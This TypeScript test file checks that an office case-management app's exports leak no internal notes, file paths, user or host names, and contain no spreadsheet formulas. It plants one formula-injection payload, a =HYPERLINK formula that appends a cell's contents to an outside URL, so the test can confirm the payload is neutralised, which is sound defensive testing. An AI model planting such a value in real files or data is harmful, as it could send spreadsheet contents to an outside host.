// Every file that the app makes for others: nothing that is only for the office, no path, no name of the computer's user.
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { hostname } from 'node:os'
import { basename, extname, join } from 'node:path'
import { inflateSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openZip } from '../../../electron/tables/zip.ts'
import { methodPaths } from '../../../shared/ipc/contract.ts'
import { rawText } from '../../support/pdf/extract.ts'
import { createTestStore, type TestStore } from '../../support/store.ts'
import { validInputs } from './validInputs.ts'

/** Words that stand only where the office keeps what is its own. */
const ABOUT_PERSON = 'Hemligord-Person'
const ABOUT_CONFLICT = 'Hemligord-Bindning'
const ABOUT_ACTOR = 'Hemligord-Aktor'
const FORMULA = '=HYPERLINK("http://example.se/"&A1)'
const USER = 'datoranvandare77'

/** What writes files for others. Backups are not among them: they hold everything, for her alone. */
const WRITES = /export|finalise$|saveLog|saveProtocol|^caseFiles\.write$|calendar|^invitations\.|^extracts\.save$|^frames\./i
/** Calls that only answer with what was written before, or write the case file by name below. */
const NO_FILES = /progress|list$|^frames\.(save|remove|get|list)/i

let store: TestStore
let folder = ''
const texts = new Map<string, string>()
const made: string[] = []
const refused: string[] = []

const filesIn = (place: string): string[] =>
  readdirSync(place, { recursive: true }).map((name) => join(place, String(name))).filter((path) => statSync(path).isFile())

async function zipText(bytes: Uint8Array): Promise<string> {
  const zip = openZip(bytes)
  const parts: string[] = []
  for (const name of zip.names) {
    const pieces: Uint8Array[] = []
    for await (const piece of zip.read(name)) pieces.push(piece)
    const inside = Buffer.concat(pieces)
    parts.push(name, inside[0] === 0x50 && inside[1] === 0x4b ? await zipText(inside) : inside.toString('utf8'))
  }
  return parts.join('\n')
}

/** Words as a reader finds them, and what stands in its objects: the description of the file among them. */
async function pdfText(path: string): Promise<string> {
  const bytes = readFileSync(path)
  const raw = bytes.toString('latin1')
  const streams = [...raw.matchAll(/stream\r?\n/g)].map(({ index, 0: start }) => {
    try {
      return inflateSync(bytes.subarray(index + start.length)).toString('utf8')
    } catch {
      return ''
    }
  })
  return [await rawText(path), raw, ...streams].join('\n')
}

async function textOf(path: string): Promise<string> {
  const [bytes, kind] = [readFileSync(path), extname(path)]
  if (kind === '.pdf') return pdfText(path)
  return bytes[0] === 0x50 && bytes[1] === 0x4b ? zipText(bytes) : bytes.toString('utf8')
}

function plant({ context: { connection } }: TestStore): void {
  connection.prepare("UPDATE contact SET notes = ?, influence = 'high'").run(ABOUT_PERSON)
  connection.prepare('UPDATE case_role SET conflict_note = ?').run(ABOUT_CONFLICT)
  connection.prepare('UPDATE actor SET notes = ?, address = ?').run(ABOUT_ACTOR, FORMULA)
}

/** Every call in each of its formats; what cannot be exported from this case is told, and not taken for done. */
async function exportEverything(): Promise<void> {
  const { inputs } = await validInputs(store)
  plant(store)
  for (const path of [...methodPaths.keys()].filter((each) => WRITES.test(each) && !NO_FILES.test(each))) {
    const input = inputs.get(path)
    if (!input) continue
    const formats = path === 'exports.write' ? ['csv', 'xlsx', 'vcard'] : 'format' in input ? ['pdf', 'docx', 'csv', 'xlsx'] : [null]
    for (const format of formats) {
      const before = filesIn(folder).length
      const hidden = path === 'caseFiles.write' ? { internal: false } : {}
      const outcome = await store.call(path, { ...input, ...hidden, ...(format === null ? {} : { format }) })
      if (outcome.ok && filesIn(folder).length > before) made.push(`${path} ${format ?? ''}`.trim())
      else refused.push(`${path} ${format ?? ''}`.trim())
    }
  }
}

const before = { USER: process.env['USER'], LOGNAME: process.env['LOGNAME'], USERNAME: process.env['USERNAME'] }
beforeAll(async () => {
  Object.assign(process.env, { USER, LOGNAME: USER, USERNAME: USER })
  store = createTestStore()
  folder = join(store.folder, 'documents')
  await exportEverything()
  for (const path of filesIn(folder)) texts.set(basename(path), await textOf(path))
}, 120_000)
afterAll(() => {
  for (const [name, value] of Object.entries(before)) {
    if (value === undefined) delete process.env[name]
    else process.env[name] = value
  }
  process.stdout.write(`Exports: ${texts.size} files by ${made.length} ways (${made.join(', ')}); not from this case: ${refused.join(', ')}\n`)
  store.close()
})

const filesWith = (word: string): string[] => [...texts].filter(([, text]) => text.includes(word)).map(([name]) => name)
/** A person is told what is noted of them; her own table of actors is made to be read in again. */
const OF_THE_PERSON = /^Registerutdrag/
const OWN_TABLE = /^(Aktörer|Registret|Register|Kontakter|Aktörsregister).*\.(csv|xlsx)$/i

describe('what is made for others', () => {
  it('is made in more than fifteen ways', () => {
    expect(store.incidents).toEqual([])
    expect(made.length).toBeGreaterThan(15)
    // What was planted is found where it belongs, so it would be found elsewhere too.
    for (const word of [ABOUT_PERSON, ABOUT_ACTOR, `'${FORMULA.slice(0, 10)}`]) expect(filesWith(word), word).not.toEqual([])
  })

  it('says nothing of what is noted about a person, but to the person', () => {
    expect(filesWith(ABOUT_PERSON).filter((name) => !OF_THE_PERSON.test(name))).toEqual([])
    expect(filesWith(ABOUT_CONFLICT).filter((name) => !OF_THE_PERSON.test(name))).toEqual([])
  })

  it('says nothing of the notes about an actor, but in her own table', () => {
    expect(filesWith(ABOUT_ACTOR).filter((name) => !OWN_TABLE.test(name) && !OF_THE_PERSON.test(name))).toEqual([])
  })

  it('names neither a folder nor the user of the computer', () => {
    for (const word of [store.folder, '/tmp/', process.cwd(), USER, `${hostname()}.`, 'file:///']) expect(filesWith(word), word).toEqual([])
  })

  it('names the office as author of a document, and no user of the computer', () => {
    const authors = [...texts].flatMap(([name, text]) =>
      [...text.matchAll(/<dc:creator>(.*?)<\/dc:creator>|<cp:lastModifiedBy>(.*?)<\/cp:lastModifiedBy>/gs)].map(([, first, second]) => `${(first ?? second ?? '').replaceAll(/<[^>]*>/g, '')}|${name}`),
    )
    expect(authors.filter((each) => !/^(|Malm(ö|Ã¶) stad, fastighets- och gatukontoret)\|/.test(each))).toEqual([])
  })

  it('holds no cell that a spreadsheet would take for a formula', () => {
    const cells = [...texts].filter(([name]) => name.endsWith('.csv')).flatMap(([, text]) => text.split(/[;\r\n]+/).map((cell) => cell.replace(/^\ufeff?"?/, '')))
    expect(cells.length).toBeGreaterThan(10)
    expect(cells.filter((cell) => /^\s*[=+@]/.test(cell))).toEqual([])
    expect([...texts].filter(([name, text]) => name.endsWith('.xlsx') && /<f[ >]/.test(text)).map(([name]) => name)).toEqual([])
  })
})
